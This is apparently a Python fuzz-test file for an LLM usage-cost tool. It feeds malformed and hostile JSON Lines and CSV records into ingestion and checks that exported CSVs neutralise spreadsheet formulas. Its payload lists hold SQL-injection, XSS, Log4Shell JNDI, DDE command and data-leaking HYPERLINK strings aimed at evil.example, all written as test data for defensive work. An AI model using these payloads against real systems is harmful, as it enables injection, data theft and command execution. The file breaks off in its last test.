"""Bad input: random and hostile records mixed into valid files, as JSON Lines and as CSV.

Ingestion never crashes; every valid record is stored with the values it was written with; every invalid
one is kept in failed_logs with a reason; nothing is lost (tried = stored + kept as failed). A few inputs
that once crashed ingestion (lone surrogate escapes, non-UTF-8 rows spanning lines) have their own tests at
the end of this file rather than in the generators.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import itertools
import json
import math
from collections import Counter
from dataclasses import dataclass
from decimal import Decimal

import hypothesis
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given
from hypothesis import strategies as st

from llmcost.cli import cli
from llmcost.events import MAX_TOKENS_PER_CALL, PRICE_SOURCES, UNATTRIBUTED
from llmcost.ingestion.run import ingest
from llmcost.providers import stored_provider
from llmcost.store import connection as store

UTC = dt.timezone.utc
NOW = dt.datetime.now(UTC)
ONE_MB = 1_000_000
TOKEN_FIELDS = ("input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens", "reasoning_tokens")
COUNT_FIELDS = (*TOKEN_FIELDS, "total_tokens", "estimated_tokens")
STRING_LIMITS = {"event_id": 200, "user_id": 500, "tenant_id": 500, "use_case": 500, "account_type": 200,
                 "provider": 200, "model": 500, "error": 10_000}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A function-scoped fixture is set up once per test, not per example: the examples share the data folder
# (each writes its own file and store, see example_store).
FUZZ = hypothesis.settings(max_examples=50, deadline=None, suppress_health_check=[
    HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large,
    HealthCheck.large_base_example])
EXAMPLES = itertools.count(1)
TOTALS: Counter = Counter()


@pytest.fixture(scope="module", autouse=True)
def report_counts(request):
    """Print the counts over all examples (records tried, stored, kept as failed, lost) past output capture."""
    yield
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled():
        for form in ("JSON Lines", "CSV"):
            if TOTALS[form, "tried"]:
                print(f"\nbad input ({form}): tried {TOTALS[form, 'tried']:,}, stored {TOTALS[form, 'stored']:,}, "
                      f"kept as failed {TOTALS[form, 'failed']:,}, lost {TOTALS[form, 'lost']:,}")


# -- what the generators write --------------------------------------------------------------------------

HOSTILE = (
    "'); DROP TABLE usage_events; --",
    "Robert'); DROP TABLE failed_logs;--",
    "1 OR 1=1; SELECT * FROM usage_events",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)", "-2+3", "@SUM(A1:A9)",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n", "../../etc/passwd",
    "Zażółć gęślą jaźń", "日本語のテキスト", "🔥💸🧾", "\u202eevil.exe", "a\u2028b\u2029c", "tab\tinside",
    'quote"inside', "back\\slash", "comma,inside", "null", "None", "NaN", "Infinity", "true", "[]", "{}", "0",
    "-0", "1e309", "\\x00", "\\ud800",
)
ID_PREFIXES = ("", "evt-", "'); DROP TABLE usage_events; --", "<b>", "=1+1|", "日本-")
MODELS = (("openai", "gpt-4o"), ("openai", "gpt-4o-mini"), ("anthropic", "claude-sonnet-4-5"), ("x-ai", "grok-2"),
          (None, None))
OFFSETS = (None, UTC, dt.timezone(dt.timedelta(hours=5, minutes=30)), dt.timezone(dt.timedelta(hours=-8)),
           dt.timezone(dt.timedelta(hours=14)), dt.timezone(dt.timedelta(hours=-12)))
ANY_CHARACTER = st.characters(exclude_categories=("Cs",))  # lone surrogates: the surrogate tests below


def hostile_text(exclude: str, max_size: int = 60) -> st.SearchStrategy[str]:
    """Non-blank text that pydantic's whitespace stripping leaves as it is."""
    generated = st.text(st.characters(exclude_categories=("Cs",), exclude_characters=exclude),
                        min_size=1, max_size=max_size)
    return st.one_of(st.sampled_from(HOSTILE), generated).filter(
        lambda s: s == s.strip() and not set(exclude) & set(s))


TEXT = hostile_text("\x00")  # NUL is refused in the event's text fields
COUNT = st.one_of(st.integers(0, 5_000), st.integers(0, MAX_TOKENS_PER_CALL))
LEAF = st.one_of(st.none(), st.booleans(), st.integers(-10**30, 10**30),
                 st.floats(allow_nan=False, allow_infinity=False), st.text(ANY_CHARACTER, max_size=30),
                 st.sampled_from(HOSTILE))
METADATA = st.dictionaries(
    st.text(ANY_CHARACTER, max_size=12),
    st.recursive(LEAF, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(ANY_CHARACTER, max_size=5),
                                                                                    inner, max_size=3),
                 max_leaves=8),
    max_size=4)


@st.composite
def valid_ts(draw) -> tuple[str, dt.datetime]:
    """(the text written, the naive UTC time the store must hold)."""
    naive = draw(st.datetimes(min_value=dt.datetime(2015, 1, 2),
                              max_value=(NOW - dt.timedelta(hours=2)).replace(tzinfo=None)))
    offset = draw(st.sampled_from(OFFSETS))
    aware = naive.replace(tzinfo=offset or UTC)
    text = naive.isoformat() if offset is None else aware.isoformat()
    if offset is UTC and draw(st.booleans()):
        text = text.replace("+00:00", "Z")
    return text, aware.astimezone(UTC).replace(tzinfo=None)


@st.composite
def usage_event(draw, marker: str, text: st.SearchStrategy[str]) -> tuple[dict, dict]:
    """A valid usage event whose event_id ends with `marker`, and the row the store must hold for it."""
    ts_text, ts = draw(valid_ts())
    input_tokens, output_tokens = draw(COUNT), draw(COUNT)
    cache_read = draw(st.integers(0, input_tokens))
    provider, model = draw(st.one_of(st.sampled_from(MODELS), st.tuples(text, text)))
    record = {
        "event_id": draw(st.sampled_from(ID_PREFIXES)) + marker,
        "ts": ts_text,
        "user_id": draw(text), "tenant_id": draw(text), "use_case": draw(text),
        "provider": provider, "model": model,
        "input_tokens": input_tokens, "output_tokens": output_tokens,
        "cache_read_tokens": cache_read,
        "cache_write_tokens": draw(st.integers(0, input_tokens - cache_read)),
        "reasoning_tokens": draw(st.integers(0, output_tokens)),
    }
    parts = input_tokens + output_tokens
    optional = {
        "account_type": text,
        "total_tokens": st.integers(parts, max(parts, MAX_TOKENS_PER_CALL)),
        "estimated_tokens": st.integers(0, MAX_TOKENS_PER_CALL),
        "usage_estimated": st.booleans(),
        "latency_ms": st.floats(0, 1e7),
        "status": st.sampled_from(["ok", "error"]),
        "error": st.one_of(text, st.just("x" * 10_000)),
        "cost_usd": st.integers(0, 12).flatmap(lambda places: st.decimals(0, 99_999, places=places)).map(
            lambda d: format(d, "f")),
        "metadata": METADATA,
    }
    if parts > MAX_TOKENS_PER_CALL:
        del optional["total_tokens"]  # a given total must itself be in range; the computed one may exceed it
    for name, strategy in optional.items():
        if draw(st.booleans()):
            record[name] = draw(strategy)
    record = {k: v for k, v in record.items() if v is not None}
    expected = {
        "event_id": record["event_id"], "ts": ts, "day": ts.date(),
        **{name: record.get(name) for name in ("user_id", "tenant_id", "use_case", "account_type", "provider",
                                               "model", "estimated_tokens", "latency_ms", "error")},
        **{name: record[name] for name in TOKEN_FIELDS},
        "total_tokens": record.get("total_tokens", parts),
        "usage_estimated": record.get("usage_estimated", False),
        "status": record.get("status", "ok"),
        "metadata": record.get("metadata") or None,
    }
    if "cost_usd" in record:
        expected.update(cost_usd=Decimal(record["cost_usd"]), price_source="provider")
    stored = stored_provider(provider)
    if stored != provider:  # drawn text may name a known provider or alias ('claude'): stored under its one name
        expected.update(provider=stored, metadata={**(record.get("metadata") or {}), "provider_original": provider})
    return record, expected


@dataclass
class Item:
    kind: str                # valid | unattributed | invalid
    line: bytes              # without its line ending
    marker: str              # in the raw text of every line, and in the event_id of every stored one
    expected: dict | None    # the stored row, for valid and unattributed records
    how: str = ""            # which mutation made it invalid


def _unattributed(draw, record: dict, expected: dict) -> None:
    for name in draw(st.sets(st.sampled_from(["user_id", "tenant_id", "use_case"]), min_size=1)):
        record.pop(name)
        expected[name] = UNATTRIBUTED
    record["estimated_tokens"] = expected["estimated_tokens"] = 100  # it has usage, so it is stored, unattributed


# Each mutation makes a valid record certainly invalid; the event_id (or, when that is the part
# mutated, the metadata) still carries the marker.
def _negative_count(draw, record, marker, csv_form):
    record[draw(st.sampled_from(COUNT_FIELDS))] = draw(st.integers(-10**30, -1))


def _too_many_tokens(draw, record, marker, csv_form):
    record[draw(st.sampled_from(COUNT_FIELDS))] = draw(st.integers(MAX_TOKENS_PER_CALL + 1, 10**40))


def _count_of_the_wrong_type(draw, record, marker, csv_form):
    wrong = ["many", "1.5", "0x10", "=1+1", "[1]"] + ([] if csv_form else ["", [1], {"n": 1}, 1.5, True, False])
    record[draw(st.sampled_from(COUNT_FIELDS))] = draw(st.sampled_from(wrong))


def _not_finite(draw, record, marker, csv_form):
    field = draw(st.sampled_from(["latency_ms", "cost_usd", "input_tokens", "output_tokens"]))
    record[field] = draw(st.sampled_from(["NaN", "inf", "-inf", "Infinity"] if csv_form else
                                         [math.nan, math.inf, -math.inf]))


def _ts_too_old(draw, record, marker, csv_form):
    record["ts"] = draw(st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2014, 12, 30),
                                     timezones=st.sampled_from([UTC, None]))).isoformat()


def _ts_too_far_ahead(draw, record, marker, csv_form):
    record["ts"] = draw(st.datetimes((NOW + dt.timedelta(days=3)).replace(tzinfo=None), dt.datetime(9999, 12, 30),
                                     timezones=st.sampled_from([UTC, None]))).isoformat()


def _ts_not_a_time(draw, record, marker, csv_form):
    garbage = ["yesterday", "2026-13-45T99:99:99Z", "2026-02-30T10:00:00Z", "2026-11-20T24:00:00Z",
               "2026-11-20T10:00:00+24:00", "2026-11-20T10:00:00+99:00", "=NOW()", "<script>"]
    record["ts"] = draw(st.sampled_from(garbage + ([] if csv_form else ["", None, 10**30, [2026, 11, 20], {}])))


def _identity_of_the_wrong_type(draw, record, marker, csv_form):
    record[draw(st.sampled_from(["user_id", "tenant_id", "use_case"]))] = draw(
        st.sampled_from([123, 1.5, ["u1"], {"user": 1}, True]))


def _text_too_long(draw, record, marker, csv_form):
    field = draw(st.sampled_from(sorted(STRING_LIMITS)))
    limit = STRING_LIMITS[field]
    length = draw(st.sampled_from([limit + 1, limit + 1_000, ONE_MB]))
    record[field] = marker + "x" * (length - len(marker))


def _nul_in_text(draw, record, marker, csv_form):
    field = draw(st.sampled_from(sorted(STRING_LIMITS)))
    record[field] = f"a\x00{marker}"


def _unknown_field(draw, record, marker, csv_form):
    record[draw(st.sampled_from(["'); DROP TABLE usage_events; --", "<script>", "=1+1", "cost", "user"]))] = 1


def _bad_status(draw, record, marker, csv_form):
    record["status"] = draw(st.sampled_from(["OK", "ERROR", "failed", "=1+1"] + ([] if csv_form else ["", 1])))


def _bad_cost(draw, record, marker, csv_form):
    record["cost_usd"] = draw(st.sampled_from(["-0.01", "abc", "0.1234567890123", "10000000"] +
                                              ([] if csv_form else [[1], {"usd": 1}])))


def _bad_event_id(draw, record, marker, csv_form):
    record["event_id"] = draw(st.sampled_from(["", 123, ["x"], {"id": 1}]))  # null means absent: an id is made


def _cache_beyond_input(draw, record, marker, csv_form):
    record["input_tokens"] = draw(st.integers(1, 10**6))
    record["cache_read_tokens"] = record["input_tokens"] + draw(st.integers(1, 1_000))


def _reasoning_beyond_output(draw, record, marker, csv_form):
    record["output_tokens"] = draw(st.integers(1, 10**6))
    record["reasoning_tokens"] = record["output_tokens"] + draw(st.integers(1, 1_000))


def _total_below_parts(draw, record, marker, csv_form):
    record["input_tokens"], record["output_tokens"] = draw(st.integers(1, 10**6)), draw(st.integers(1, 10**6))
    record["total_tokens"] = record["input_tokens"] + record["output_tokens"] - draw(st.integers(1, 10**6))
    record["total_tokens"] = max(record["total_tokens"], 0)


def _metadata_of_the_wrong_type(draw, record, marker, csv_form):
    record["metadata"] = draw(st.sampled_from(["[1, 2]", "5", "not json {", "=1+1", "true"] +
                                              ([] if csv_form else [[1, 2], 5, True])))


FIELD_MUTATIONS = [_negative_count, _too_many_tokens, _count_of_the_wrong_type, _not_finite, _ts_too_old,
                   _ts_too_far_ahead, _ts_not_a_time, _text_too_long, _nul_in_text, _bad_status, _bad_cost,
                   _cache_beyond_input, _reasoning_beyond_output, _total_below_parts, _metadata_of_the_wrong_type]
JSON_ONLY_MUTATIONS = [_identity_of_the_wrong_type, _unknown_field, _bad_event_id]


def encode_json(draw, record: dict) -> bytes:
    return json.dumps(record, ensure_ascii=draw(st.booleans()), allow_nan=True).encode("utf-8")


def unreadable_json_lines(marker: str, record_line: bytes) -> st.SearchStrategy[bytes]:
    """Lines that are not a JSON object at all, each naming the marker early in its raw text."""
    m = marker
    return st.one_of(
        st.just(record_line.replace(m.encode(), m.encode() + b"\xff\xfe", 1)),          # invalid UTF-8
        st.sampled_from([f'["{m}", ' + "[" * 100_000,                                    # 100,000 levels deep
                         f'["{m}", ' + "[" * 100_000 + "]" * 100_001,
                         f'{{"event_id": "{m}", "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}"]).map(str.encode),
        st.integers(record_line.index(m.encode()) + len(m) + 1, len(record_line) - 1).map(
            lambda cut: record_line[:cut]),                                              # cut short
        st.sampled_from([f'["{m}", 1]', json.dumps(m), f'"{m}" 1', f"{m},1,2,3",        # not an object
                         f"{m}'); DROP TABLE usage_events; --", f'<script>alert("{m}")</script>',
                         f'=HYPERLINK("http://evil.example/{m}","x")', f"{m} Tokens used: 1988",
                         f'{{"event_id": "{m}",\x00"user_id": "u"}}', f'{{"event_id": "{m}\x00"}}']).map(str.encode),
    )


@st.composite
def json_item(draw, marker: str) -> Item:
    record, expected = draw(usage_event(marker, TEXT))
    kind = draw(st.sampled_from(["valid"] * 5 + ["unattributed"] + ["invalid field"] * 4 + ["unreadable"] * 2))
    if kind == "valid":
        return Item("valid", encode_json(draw, record), marker, expected)
    if kind == "unattributed":
        _unattributed(draw, record, expected)
        return Item("unattributed", encode_json(draw, record), marker, expected)
    record["metadata"] = {"marker": marker}
    if kind == "unreadable":
        return Item("invalid", draw(unreadable_json_lines(marker, encode_json(draw, record))), marker, None,
                    "unreadable line")
    mutation = draw(st.sampled_from(FIELD_MUTATIONS + JSON_ONLY_MUTATIONS))
    mutation(draw, record, marker, False)
    return Item("invalid", encode_json(draw, record), marker, None, mutation.__name__)


CSV_COLUMNS = ["event_id", "ts", "user_id", "tenant_id", "use_case", "account_type", "provider", "model",
               *TOKEN_FIELDS, "total_tokens", "estimated_tokens", "usage_estimated", "latency_ms", "status",
               "error", "cost_usd", "price_source", "metadata"]


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (dict, list)):
        return json.dumps(value, ensure_ascii=False)
    return repr(value) if isinstance(value, float) else str(value)


def csv_line(cells: list[str]) -> bytes:
    """One CSV row without its line ending; cells holding a line break are quoted and span lines."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)  # the terminator's characters get quoted
    return buffer.getvalue().removesuffix("\r\n").encode("utf-8")


@st.composite
def csv_item(draw, marker: str, columns: list[str]) -> Item:
    record, expected = draw(usage_event(marker, TEXT))

    def cells() -> list[str]:
        return [csv_cell(record.get(c)) for c in columns]

    kind = draw(st.sampled_from(["valid"] * 5 + ["unattributed"] + ["invalid field"] * 4 + ["unreadable"] * 2))
    if kind == "valid":
        return Item("valid", csv_line(cells()), marker, expected)
    if kind == "unattributed":
        _unattributed(draw, record, expected)
        return Item("unattributed", csv_line(cells()), marker, expected)
    record["metadata"] = {"marker": marker}
    if kind == "unreadable":
        unreadable = [csv_line(cells() + ["one cell too many", "=1+1"]),
                      csv_line([{"event_id": marker, "ts": record["ts"]}.get(c, "") for c in columns])]
        row = csv_line(cells())
        if b"\n" not in row and b"\r" not in row:  # invalid UTF-8 in a row spanning lines: its own test below
            unreadable.append(row.replace(marker.encode(), marker.encode() + b"\xff\xfe", 1))
        return Item("invalid", draw(st.sampled_from(unreadable)), marker, None, "unreadable row")
    mutation = draw(st.sampled_from(FIELD_MUTATIONS))
    mutation(draw, record, marker, True)
    return Item("invalid", csv_line(cells()), marker, None, mutation.__name__)


BLANK_LINES = st.sampled_from([b"", b"", b"", b"\n", b" \t \n"])
LINE_ENDINGS = st.sampled_from([b"\n", b"\r\n"])


# -- checking what ingestion did --------------------------------------------------------------------------


def rows_as_dicts(settings, sql: str, params: list) -> list[dict]:
    with store.reading(settings.db_path) as db:
        result = db.execute(sql, params)
        names = [d[0] for d in result.description]
        return [dict(zip(names, row)) for row in result.fetchall()]


def table_counts(settings) -> dict[str, int]:
    with store.reading(settings.db_path) as db:
        if db is None:
            return {"events": 0, "invalid": 0}
        events = db.execute("SELECT count(*) FROM usage_events").fetchall()[0][0]
        invalid = db.execute("SELECT count(*) FROM failed_logs WHERE kind = 'invalid'").fetchall()[0][0]
    return {"events": events, "invalid": invalid}


def assert_stored_as_written(row: dict, expected: dict) -> None:
    for name, value in expected.items():
        stored = row[name]
        if name == "metadata" and stored is not None:
            stored = json.loads(stored)
        assert stored == value, f"{expected['event_id']!r} {name}: stored {stored!r}, written {value!r}"
    if "cost_usd" not in expected:
        assert row["cost_usd"] >= 0 and row["price_source"] in PRICE_SOURCES


def example_store(settings, n: int):
    """A store of the example's own, so that no example (nor hypothesis replaying one) meets another's rows."""
    return dataclasses.replace(settings, db_path=settings.home / f"example-{n}.duckdb")


def check_ingest(settings, path, items: list[Item], prefix: str, form: str) -> None:
    before = table_counts(settings)
    result = ingest(settings, [path])  # never raises on bad input
    after = table_counts(settings)
    rows = rows_as_dicts(settings, "SELECT * FROM usage_events WHERE contains(event_id, ?)", [prefix])
    kept = rows_as_dicts(settings, "SELECT kind, error, raw, event_id FROM failed_logs WHERE contains(raw, ?)",
                         [prefix])
    stored_items = [item for item in items if item.kind != "invalid"]
    invalid_items = [item for item in items if item.kind == "invalid"]

    refused = [r for r in kept if r["kind"] == "refused"]
    if refused:  # none of the file's first lines is a record: refused whole, its text kept in one row
        assert len(refused) == 1 and not stored_items, refused
        assert all(item.marker in refused[0]["raw"] for item in items)
        assert (result.read, result.stored, after["events"] - before["events"]) == (0, 0, 0)
        TOTALS.update({(form, "refused files"): TOTALS.get((form, "refused files"), 0) + 1})
        return

    assert sorted(r["event_id"] for r in rows) == sorted(i.expected["event_id"] for i in stored_items)
    by_id = {r["event_id"]: r for r in rows}
    for item in stored_items:
        assert_stored_as_written(by_id[item.expected["event_id"]], item.expected)

    invalid_rows = [r for r in kept if r["kind"] == "invalid"]
    for item in invalid_items:
        holding = [r for r in invalid_rows if item.marker in r["raw"]]
        assert len(holding) == 1, f"{item.how} record {item.marker} is kept {len(holding)} times: {item.line[:300]!r}"
        assert holding[0]["error"] and holding[0]["error"].strip(), f"no reason given for {item.marker}"
    assert len(invalid_rows) == len(invalid_items)
    assert sorted(r["event_id"] for r in kept if r["kind"] == "unattributed") == sorted(
        i.expected["event_id"] for i in items if i.kind == "unattributed")

    tried = len(items)
    stored = after["events"] - before["events"]
    failed = after["invalid"] - before["invalid"]
    assert (result.read, result.stored, result.failed) == (tried, stored, failed)
    assert stored == len(stored_items) and failed == len(invalid_items)
    assert tried - stored - failed == 0, "lost records"
    TOTALS.update({(form, "tried"): tried, (form, "stored"): stored, (form, "failed"): failed,
                   (form, "lost"): tried - stored - failed})


# -- the properties ---------------------------------------------------------------------------------------


@pytest.mark.slow
@FUZZ
@given(data=st.data())
def test_hostile_json_lines_never_crash_ingest_and_nothing_is_lost(settings, data):
    n = next(EXAMPLES)
    items = [data.draw(json_item(f"m{n:04d}r{i:03d}x")) for i in range(data.draw(st.integers(1, 20)))]
    path = settings.home / f"example-{n}.jsonl"
    with path.open("wb") as f:
        for item in items:
            f.write(data.draw(BLANK_LINES) + item.line + data.draw(LINE_ENDINGS))
    check_ingest(example_store(settings, n), path, items, f"m{n:04d}r", "JSON Lines")


@pytest.mark.slow
@hypothesis.settings(FUZZ, max_examples=40)
@given(data=st.data())
def test_hostile_csv_rows_never_crash_ingest_and_nothing_is_lost(settings, data):
    n = next(EXAMPLES)
    columns = data.draw(st.permutations(CSV_COLUMNS))
    items = [data.draw(csv_item(f"m{n:04d}r{i:03d}x", columns)) for i in range(data.draw(st.integers(1, 20)))]
    path = settings.home / f"example-{n}.csv"
    ending = data.draw(LINE_ENDINGS)
    with path.open("wb") as f:
        f.write(csv_line(columns) + ending)
        for item in items:
            f.write(data.draw(BLANK_LINES) + item.line + ending)
    check_ingest(example_store(settings, n), path, items, f"m{n:04d}r", "CSV")


# -- the export -------------------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3",
            "@SUM(A1:A9)", "=1+1", "=", "+", "-", "@")


def exported_rows(settings, out, table: str) -> list[list[str]]:
    run = CliRunner().invoke(cli, ["export", "--out", str(out), "--table", table])
    assert run.exit_code == 0, run.output
    with open(out, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def hostile_record(event_id: str, text: str) -> dict:
    fields = ("user_id", "tenant_id", "use_case", "account_type", "provider", "model", "error")
    return {"event_id": event_id, "ts": (NOW - dt.timedelta(hours=1)).isoformat(), "input_tokens": 10,
            "output_tokens": 2, "metadata": {"note": text}, **{name: text for name in fields}}


def test_export_neutralises_formula_cells_in_both_tables(settings, tmp_path):
    lines = []
    for n, formula in enumerate(FORMULAS):
        lines.append(json.dumps(hostile_record(f"{formula}#{n}", formula)))
        lines.append(formula)  # not JSON at all: kept in failed_logs with this raw text
        lines.append(json.dumps(hostile_record(f"bad{n}", formula) | {"input_tokens": -1}))
    path = settings.home / "formulas.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = ingest(settings, [path])
    assert (result.stored, result.failed) == (len(FORMULAS), 2 * len(FORMULAS))

    events = exported_rows(settings, tmp_path / "events.csv", "usage_events")
    failures = exported_rows(settings, tmp_path / "failed.csv", "failed_logs")
    assert len(events) == 1 + len(FORMULAS) and len(failures) == 1 + 2 * len(FORMULAS)
    assert formula_cells(events) == [] and formula_cells(failures) == []
    user_ids = [row[events[0].index("user_id")] for row in events[1:]]
    assert sorted(user_ids) == sorted("'" + f for f in FORMULAS)  # neutralised, not dropped
    raws = {row[failures[0].index("raw")] for row in failures[1:]}
    assert {"'" + f for f in FORMULAS} <= raws


FORMULA_TEXT = st.tuples(st.sampled_from("=+-@"), st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00\r\n"), max_size=30)).map("".join).filter(
    lambda s: s == s.strip())


@pytest.mark.slow
@hypothesis.settings(FUZZ, max_examples=20)
@given(formulas=st.lists(FORMULA_TEXT, min_size=1, max_size=6))
def test_generated_formula_strings_never_reach_a_spreadsheet_as_formulas(settings, formulas):
    n = next(EXAMPLES)
    path = settings.home / f"formulas-{n}.jsonl"
    path.write_text("".join(json.dumps(hostile_record(f"f{n}-{i}", text)) + "\n" for i, text in enumerate(formulas)),
                    encoding="utf-8")
    assert ingest(settings, [path]).stored == len(formulas)
    rows = exported_rows(settings, settings.home / f"export-{n}.csv", "usage_events")
    assert formula_cells(rows) == []
    exported = {row[rows[0].index("event_id")]: row[rows[0].index("user_id")] for row in rows[1:]}
    assert [exported[f"f{n}-{i}"] for i in range(len(formulas))] == ["'" + text for text in formulas]


# -- single hostile inputs: regressions for bugs found here ---------------------------------------------------


def good(event_id: str, **extra) -> dict:
    return {"event_id": event_id, "ts": (NOW - dt.timedelta(hours=1)).isoformat(), "user_id": "u1",
            "tenant_id": "t1", "use_case": "chat_tutor", "provider": "openai", "model": "gpt-4o",
            "input_tokens": 100, "output_tokens": 10, **extra}


def ingest_lines(settings, name: str, lines: list[str | bytes]):
    path = settings.home / name
    path.write_bytes(b"".join((line if isinstance(line, bytes) else line.encode("utf-8")) + b"\n" for line in lines))
    return ingest(settings, [path])


def stored_events(settings) -> dict[str, dict]:
    return {r["event_id"]: r for r in rows_as_dicts(settings, "SELECT * FROM usage_events", [])}


def kept_raws(settings) -> list[str]:
    return [r["raw"] for r in rows_as_dicts(settings, "SELECT raw FROM failed_logs WHERE kind <> 'unattributed'", [])]


def test_bare_carriage_returns_inside_a_record_do_not_split_it(settings):
    json_line = json.dumps(good("cr-json")).replace(', "user_id"', ',\r"user_id"')  # CR is JSON whitespace
    ingest_lines(settings, "cr.jsonl", [json.dumps(good("before")), json_line, json.dumps(good("after"))])
    ingest_lines(settings, "cr.csv", ["event_id,ts,user_id,tenant_id,use_case,input_tokens,error",
                                      f'cr-csv,{good("x")["ts"]},u1,t1,chat_tutor,5,"one\rtwo"'])
    events = stored_events(settings)
    assert set(events) == {"before", "cr-json", "after", "cr-csv"}
    assert events["cr-csv"]["error"] == "one\rtwo" and kept_raws(settings) == []


def test_non_finite_huge_and_deep_metadata_is_stored_intact_or_kept_never_a_crash(settings):
    metadata = {"nan": math.nan, "big": 10**30, "nul": "a\x00b", "script": "<script>x</script>",
                "deep": json.loads("[" * 500 + "]" * 500)}
    ingest_lines(settings, "metadata.jsonl", [json.dumps(good("odd", metadata=metadata)), json.dumps(good("after"))])
    events = stored_events(settings)
    assert "after" in events
    if "odd" in events:
        stored = json.loads(events["odd"]["metadata"])
        assert math.isnan(stored.pop("nan")) and stored == {k: v for k, v in metadata.items() if k != "nan"}
    else:
        assert any('"odd"' in raw for raw in kept_raws(settings))


SURROGATES = {
    "an event's user_id": json.dumps(good("hostile", user_id="\ud800")),
    "an event's metadata": json.dumps(good("hostile", metadata={"note": "\udfff"})),
    "an invalid record": json.dumps(good("hostile", user_id="\ud800", input_tokens=-1)),
    "a fallback entry's error": json.dumps({"timestamp": NOW.isoformat(), "error": "disk \udc80 full",
                                            "event": good("hostile")}),
    "a call attempt": json.dumps({"record": "attempt", "attempt_id": "hostile", "ts": NOW.isoformat(),
                                  "user_id": "\ud800", "tenant_id": "t1", "use_case": "chat_tutor"}),
}


@pytest.mark.parametrize("where", SURROGATES)
def test_a_lone_surrogate_escape_is_kept_and_the_rest_of_the_file_is_stored(settings, where):
    ingest_lines(settings, "surrogate.jsonl", [json.dumps(good("before")), SURROGATES[where],
                                              json.dumps(good("after"))])
    events = stored_events(settings)
    assert {"before", "after"} <= set(events)
    attempts = rows_as_dicts(settings, "SELECT attempt_id FROM call_attempts", [])
    assert "hostile" in events or any("hostile" in raw for raw in kept_raws(settings)) or attempts


def attempt(**extra) -> str:
    return json.dumps({"record": "attempt", "attempt_id": "hostile", "ts": NOW.isoformat(), "user_id": "u1",
                       "tenant_id": "t1", "use_case": "chat_tutor", **extra})


@pytest.mark.parametrize("line", [
    pytest.param(attempt(estimated_tokens=10**30), id="estimated_tokens of 10**30"),
    pytest.param(attempt(ts="0001-01-01T00:00:00+14:00"), id="a time before year 1 in UTC"),
    pytest.param(attempt(ts="9999-12-31T23:59:59-14:00"), id="a time after year 9999 in UTC"),
    pytest.param(attempt(ts="9999-01-01T00:00:00Z"), id="a time in year 9999"),
])
def test_an_implausible_call_attempt_is_kept_as_failed_and_the_rest_is_stored(settings, line):
    ingest_lines(settings, "attempts.jsonl", [json.dumps(good("before")), line, json.dumps(good("after"))])
    assert {"before", "after"} <= set(stored_events(settings))
    assert rows_as_dicts(settings, "SELECT attempt_id FROM call_attempts", []) == []
    assert any('"hostile"' in raw for raw in kept_raws(settings))


def test_a_fallback_entry_whose_timestamp_overflows_in_utc_still_has_its_event_stored(settings):
    entry = json.dumps({"timestamp": "0001-01-01T00:00:00+14:00", "error": "disk full", "event": good("inner")})
    ingest_lines(settings, "fallback-like.jsonl", [json.dumps(good("before")), entry, json.dumps(good("after"))])
    assert set(stored_events(settings)) == {"before", "inner", "after"}


def csv_rows(*rows: list[str]) -> list[bytes]:
    return [csv_line(["event_id", "ts", "user_id", "tenant_id", "use_case", "input_tokens", "error", "metadata"]),
            *(csv_line(row) for row in rows)]


def test_a_csv_metadata_cell_of_1_mb_is_stored_whole(settings):
    ts, blob = good("x")["ts"], {"blob": "x" * ONE_MB}
    ingest_lines(settings, "big.csv", csv_rows(["big", ts, "u1", "t1", "chat_tutor", "5", "", json.dumps(blob)],
                                               ["after", ts, "u1", "t1", "chat_tutor", "5", "", ""]))
    events = stored_events(settings)
    assert set(events) == {"big", "after"} and json.loads(events["big"]["metadata"]) == blob


def test_a_csv_cell_beyond_the_csv_field_limit_is_kept_as_failed_never_a_crash(settings):
    ts = good("x")["ts"]
    ingest_lines(settings, "big.csv", csv_rows(["before", ts, "u1", "t1", "chat_tutor", "5", "", ""],
                                               ["big", ts, "u" * ONE_MB, "t1", "chat_tutor", "5", "", ""],
                                               ["after", ts, "u1", "t1", "chat_tutor", "5", "", ""]))
    assert set(stored_events(settings)) == {"before", "after"}
    assert [raw[:4] for raw in kept_raws(settings)] == ["big,"]


def test_a_quoted_csv_cell_spanning_lines_is_never_half_parsed(settings):
    ts = good("x")["ts"]
    ingest_lines(settings, "multiline.csv", csv_rows(["before", ts, "u1", "t1", "chat_tutor", "5", "", ""],
                                                     ["multi", ts, "u1", "t1", "chat_tutor", "5", "one\ntwo", ""],
                                                     ["after", ts, "u1", "t1", "chat_tutor", "5", "", ""]))
    events = stored_events(settings)
    assert {"before", "after"} <= set(events)
    if "multi" in events:
        assert events["multi"]["error"] == "one\ntwo"
    else:
        assert [raw for raw in kept_raws(settings) if "one" in raw and "two" in raw]
    assert [raw for raw in kept_raws(settings) if "two" in raw and "one" not in raw] == []


def test_a_csv_row_not_in_utf8_with_a_cell_spanning_lines_is_kept_whole(settings):
    ts = good("x")["ts"]
    lines = csv_rows(["before", ts, "u1", "t1", "chat_tutor", "5", "", ""],
                     ["broken", ts, "NOT-UTF-8", "t1", "chat_tutor", "5", "one\ntwo", ""],
                     ["after", ts, "u1", "t1", "chat_tutor", "5", "", ""])
